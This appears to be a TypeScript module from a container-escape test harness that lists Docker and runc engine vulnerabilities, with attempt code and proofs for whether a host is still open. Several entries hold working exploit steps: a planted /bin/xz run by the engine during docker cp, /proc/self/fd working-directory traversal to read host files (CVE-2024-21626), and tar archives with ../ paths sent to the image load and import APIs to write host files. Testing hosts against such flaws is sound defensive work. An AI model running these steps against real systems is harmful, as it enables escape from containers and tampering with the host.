import { IMAGE } from "../host.ts";
import { reads, says, type Way, writes } from "../escape.ts";
import { request } from "../../raw_http.ts";
import { tar } from "../../tar.ts";

/** Ways that are errors of the engine or of runc, which new versions close. */
export const ENGINE_BUGS: readonly Way[] = [
  {
    name: "docker cp of a compressed archive: the image's own xz",
    sources: [
      "CVE-2026-41567",
      "https://github.com/moby/moby/security/advisories/GHSA-x86f-5xw2-fm2r",
    ],
    closed: "an error of the engine, which 29.5.1 and Debian's updates correct",
    attempt: async (host) => {
      const options = ["--network=none", "--name=own-xz", "--cap-drop=ALL"];
      await host.docker("run", "--detach", ...options, IMAGE);
      await host.docker(
        ...["exec", "own-xz", "sh", "-c"],
        "rm /bin/xz && printf '#!/bin/sh\\necho run by the engine >/tmp/ran'" +
          " >/bin/xz && chmod 755 /bin/xz",
      );
      await host.send(
        request("PUT", "/containers/own-xz/archive?path=/tmp", {
          headers: [["Content-Type", "application/x-tar"]],
          body: new Uint8Array([...XZ, ...new Uint8Array(1024)]),
        }),
      );
      await host.docker("exec", "own-xz", "cat", "/tmp/ran");
    },
    proof: says("run by the engine"),
  },
  {
    name: "a working directory that is runc's open folder",
    sources: ["CVE-2024-21626"],
    closed: "an error of runc, which 1.1.12 corrects",
    attempt: async (host) => {
      for (let fd = 3; fd < 12; fd++) {
        await host.run(
          [`--workdir=/proc/self/fd/${fd}`],
          ...["cat", `../../../../../../../..${host.file}`],
        );
        if (reads(host)) return;
      }
    },
    proof: reads,
  },
  {
    name: "docker exec --workdir of runc's open folder",
    sources: ["CVE-2024-21626"],
    closed: "an error of runc, which 1.1.12 corrects",
    attempt: async (host) => {
      const options = ["--network=none", "--name=leaky"];
      await host.docker("run", "--detach", ...options, IMAGE);
      for (let fd = 3; fd < 12; fd++) {
        await host.docker(
          ...["exec", `--workdir=/proc/self/fd/${fd}`, "leaky"],
          ...["cat", `../../../../../../../..${host.file}`],
        );
      }
    },
    proof: reads,
  },
  {
    name: "docker load of an archive with .. in its paths",
    sources: ["CVE-2014-9357", "CVE-2014-9358"],
    closed: "the engine unpacks in a chroot",
    attempt: (host) =>
      host.send(
        request("POST", "/images/load", {
          headers: [["Content-Type", "application/x-tar"]],
          body: tar([{
            path: `../../../../../../../..${host.prey}`.slice(0, 99),
            content: new TextEncoder().encode("mine"),
          }]),
        }),
      ),
    proof: writes,
  },
  {
    name: "docker import of a layer with .. in its paths",
    sources: ["CVE-2014-9357"],
    closed: "the engine unpacks in a chroot",
    attempt: async (host) => {
      await host.send(
        request("POST", "/images/create?fromSrc=-&repo=evil&tag=1", {
          headers: [["Content-Type", "application/x-tar"]],
          body: tar([{
            path: `../../../../../../../..${host.prey}`.slice(0, 99),
            content: new TextEncoder().encode("mine"),
          }]),
        }),
      );
      await host.h.api("DELETE", "/images/evil:1?force=1");
    },
    proof: writes,
  },
  ...[
    ["runc's own program, written by a container", "CVE-2019-5736"],
    ["links swapped while runc mounts", "CVE-2021-30465"],
    ["masked paths that are links", "CVE-2025-31133"],
    ["/dev/console that is a link", "CVE-2025-52565"],
    ["writes of runc into /proc by another way", "CVE-2025-52881"],
    ["docker cp while a link is swapped", "CVE-2026-42306"],
    ["BuildKit: cache mounts swapped with links", "CVE-2024-23651"],
    ["BuildKit: files removed out of the root file system", "CVE-2024-23652"],
    ["BuildKit: privileged containers of a frontend", "CVE-2024-23653"],
  ].map(([name, source]): Way => ({
    name,
    sources: [source],
    cannot: "a race or a broken file of the host: new versions are the answer",
    open: "an error in the engine's programs: new versions correct it",
    attempt: () => Promise.resolve(),
    proof: says("never"),
  })),
];

/** How an archive begins that xz made. */
const XZ = [0xfd, 0x37, 0x7a, 0x58, 0x5a, 0];
